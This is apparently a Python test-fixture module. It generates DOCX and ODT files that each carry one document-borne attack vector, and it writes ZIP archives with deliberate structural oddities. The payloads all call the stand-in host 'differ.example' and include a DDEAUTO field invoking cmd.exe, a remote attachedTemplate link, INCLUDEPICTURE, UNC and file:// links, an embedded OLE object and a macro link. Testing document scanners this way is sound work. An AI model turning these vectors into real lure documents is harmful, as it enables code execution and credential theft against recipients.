"""Documents that carry one payload, and the bytes of a ZIP written in unusual ways."""

import binascii
import struct
import zlib

HOST = "differ.example"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + HOST.encode()


def relation(kind, target, mode='TargetMode="External"'):
    return f'<Relationship Id="rP" Type="{REL}{kind}" Target="{target}" {mode}/>'


def field(code):
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    text = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
    return "<w:p>" + mark % "begin" + text + mark % "separate" + mark % "end" + "</w:p>"


# Each payload: what goes into the body, into the relations, and into other parts.
DOCX = {
    "none": ("", "", {}),
    "template": ("", relation("attachedTemplate", f"http://{HOST}/a.dotm"), {}),
    "server": ("", relation("image", f"file://{HOST}/a.png"), {}),
    "picture": ("", relation("image", f"http://{HOST}/a.png"), {}),
    "frame": ("", relation("subDocument", f"\\\\{HOST}\\a.docx"), {}),
    "dde": (field(f'DDEAUTO c:\\\\cmd.exe "{HOST}"'), "", {}),
    "include": (field(f'INCLUDEPICTURE "http://{HOST}/a.png" \\d'), "", {}),
    "object": ("", relation("oleObject", "embeddings/o.bin", ""), {"word/embeddings/o.bin": OLE}),
}
HREFS = {
    "picture": '<draw:frame><draw:image xlink:href="%s"/></draw:frame>',
    "object": '<draw:frame><draw:object-ole xlink:href="%s"/></draw:frame>',
    "section": '<text:section text:name="s"><text:section-source xlink:href="%s"/></text:section>',
    "frame": '<draw:frame><draw:floating-frame xlink:href="%s"/></draw:frame>',
}
ODF = {"none": ("", {})}
for name, element in HREFS.items():
    ODF[name] = (element % f"http://{HOST}/a", {})
    ODF[name + " server"] = (element % f"file://{HOST}/a", {})
ODF["macro"] = (
    f'<text:p><text:a xlink:href="vnd.sun.star.script:{HOST}?language=Basic">x</text:a></text:p>',
    {},
)
ODF["ole"] = ("", {"Object 1": OLE})


def docx(payload):
    body, relations, parts = DOCX[payload]
    types = (
        f'<Types xmlns="{PACKAGE}content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
        '"application/xml"/><Default Extension="bin" ContentType="application/octet-stream"/>'
        f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
    )
    root = f'<Relationship Id="r1" Type="{REL}officeDocument" Target="word/document.xml"/>'
    names = f'xmlns:w="{WORD}"'
    document = f"<w:document {names}><w:body><w:p><w:r><w:t>a</w:t></w:r></w:p>{body}</w:body></w:document>"
    all_of = lambda inside: f'<Relationships xmlns="{PACKAGE}relationships">{inside}</Relationships>'
    files = {
        "[Content_Types].xml": types,
        "_rels/.rels": all_of(root),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": all_of(relations),
    }
    return {name: text.encode() for name, text in files.items()} | parts


def odt(payload):
    body, parts = ODF[payload]
    spaces = {
        "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
        "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
        "draw": "urn:oasis:names:tc:opendocument:xmlns:drawing:1.0",
        "xlink": "http://www.w3.org/1999/xlink",
    }
    names = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in spaces.items())
    space = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"
    entry = '<m:file-entry m:full-path="%s" m:media-type="%s"/>'
    listed = entry % ("/", ODT) + "".join(entry % (name, "text/xml") for name in ["content.xml", *parts])
    content = (
        f'<office:document-content {names} office:version="1.2"><office:body><office:text>'
        f"<text:p>a</text:p>{body}</office:text></office:body></office:document-content>"
    )
    files = {
        "mimetype": ODT,
        "META-INF/manifest.xml": f'<m:manifest xmlns:m="{space}">{listed}</m:manifest>',
        "content.xml": content,
    }
    return {name: text.encode() for name, text in files.items()} | parts


class Writer:
    """Writes a ZIP entry by entry, with what a mutation wants different."""

    def __init__(self, prefix=b""):
        self.content, self.directory, self.count = bytearray(prefix), bytearray(), 0

    def add(self, name, data, packed=False, streamed=False, extra=b"", local_name=None, listed=True):
        raw = name if isinstance(name, bytes) else name.encode()
        own = raw if local_name is None else local_name.encode()
        body = zlib.compress(data)[2:-4] if packed else data
        method, flags = (8 if packed else 0), (8 if streamed else 0)
        numbers = struct.pack("<III", binascii.crc32(data), len(body), len(data))
        start = len(self.content)
        head = struct.pack("<HHHHH", 20, flags, method, 0, 33)
        sizes = bytes(12) if streamed else numbers
        self.content += b"PK\3\4" + head + sizes + struct.pack("<HH", len(own), len(extra)) + own + extra + body
        if streamed:
            self.content += b"PK\7\10" + numbers
        if listed:
            tail = struct.pack("<HHHHHII", len(raw), len(extra), 0, 0, 0, 0, start)
            self.directory += b"PK\1\2" + struct.pack("<H", 20) + head + numbers + tail + raw + extra
            self.count += 1

    def end(self, shift=0, comment=b"", count=None):
        count = self.count if count is None else count
        start = len(self.content) + shift
        return b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(self.directory), start, len(comment)) + comment

    def finish(self, gap=b"", shift=0, comment=b"", suffix=b"", count=None):
        return bytes(self.content + self.directory) + gap + self.end(shift, comment, count) + suffix
